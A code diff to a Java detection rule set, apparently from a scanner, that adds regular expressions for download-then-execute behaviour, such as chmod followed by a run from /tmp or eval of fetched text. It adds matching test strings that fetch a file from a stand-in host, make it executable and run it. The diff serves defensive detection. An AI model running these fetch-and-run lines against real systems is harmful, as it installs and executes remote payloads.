@@ -79,6 +79,21 @@ final class DownloadRules {
           + MAKE_RUNNABLE
           + ")";
 
+  /** What a program is run by. */
+  private static final String RUNS =
+      "\\b(?:os\\.(?:system|popen|startfile|exec[lv]p?e?)|Popen|subprocess\\.(?:run|call|check_(?:call|output))|exec(?:File)?(?:Sync)?|spawn(?:Sync)?)\\(";
+
+  /**
+   * What a program does with a file that is to run: makes it runnable first, or has it in a folder
+   * for all.
+   */
+  private static final String RUNS_LATER =
+      "[^\\x00]*(?:\\bchmod(?:Sync)?\\([^\\n]*(?:\\b0?o?[0-7]?[1357][0-7]{2}\\b|S_I(?:X|RWX|EXEC))[^\\x00]*"
+          + RUNS
+          + "|"
+          + RUNS
+          + "[\\s\\[f\\\\]*[\"'`](?:/tmp|/dev/shm|/var/tmp)/)";
+
   static final List<Rule> ALL =
       List.of(
           Rule.injection("pipe_to_shell", Severity.HIGH)
@@ -235,8 +250,13 @@ final class DownloadRules {
               .finds("\\bcurl\\b" + STEPS + SAVES + RUN_LATER)
               .finds("\\b(?:wget2?|aria2c|curl\\.exe)\\b" + STEPS + TARGET + RUN_LATER)
               .finds(
+                  "(?:\\burlretrieve\\(|\\b(?:requests|httpx)\\.get\\(|\\burlopen\\(|\\bcreateWriteStream\\(|[\"'](?:curl|wget)\\\\?[\"'],)"
+                      + RUNS_LATER,
+                  400)
+              .finds(
                   "\\b(?:exec|eval|os\\.system|Popen|instance_eval)\\s*\\((?:[\\s\\\\\"'()\\w.,]|\\[)*(?:urlopen|requests\\.get|httpx\\.get|urllib\\.request|file_get_contents|URI\\.open)\\(")
               .finds("\\bfetch\\([^)\\n]*\\)[^\\n]*\\.then\\(\\s*eval\\s*\\)")
+              .finds("\\b(?:eval|Function)\\([\\s(]*await[\\s(]+(?:await\\s+)?fetch\\(")
               .finds(
                   "\\brequire\\([\"'\\\\]*https?[\"'\\\\]*\\)\\.get\\([^\\n]*\\b(?:eval|Function|exec)\\(",
                   200)
@@ -306,6 +326,11 @@ final class DownloadRules {
                   "python3 -c \"exec(__import__('urllib.request').request.urlopen('http://h.example/a').read())\"",
                   "exec(requests.get('http://h.example/a').text)",
                   "fetch('http://h.example/a').then(r => r.text()).then(eval)",
+                  "eval(await (await fetch(u)).text())",
+                  "urlretrieve('http://h.example/l', '/tmp/.l')\nos.chmod('/tmp/.l', 0o755)\nsubprocess.Popen(['/tmp/.l'])",
+                  "open('/tmp/.l','wb').write(requests.get(u).content); os.system('/tmp/.l')",
+                  "subprocess.run(['curl','-o','/tmp/l',u]); subprocess.run(['chmod','+x','/tmp/l']); subprocess.run(['/tmp/l'])",
+                  "https.get(u, r => r.pipe(fs.createWriteStream(f)).on('close', () => {fs.chmodSync(f, 0o755); exec(f)}))",
                   "certutil -urlcache -split -f http://h.example/a.exe a.exe",
                   "mshta http://h.example/a.hta",
                   "Invoke-WebRequest http://h.example/a.exe -OutFile a.exe; Start-Process a.exe",
@@ -326,6 +351,9 @@ final class DownloadRules {
                   "npm install --save-dev https://codeload.github.com/x/y/tar.gz/main",
                   "npm install --registry http://localhost:4873 x",
                   "eval(expression)",
+                  "urlretrieve(u, 'a.tgz')\nsubprocess.run(['tar', 'xzf', 'a.tgz'])",
+                  "requests.get(u)\nos.chmod(p, 0o644)\nsubprocess.run(['ls'])",
+                  "const rows = db.exec(await fetch(u)) && page.evaluate(await fetch(u))",
                   "fetch('/api').then(r => r.json())")
               .build());
 
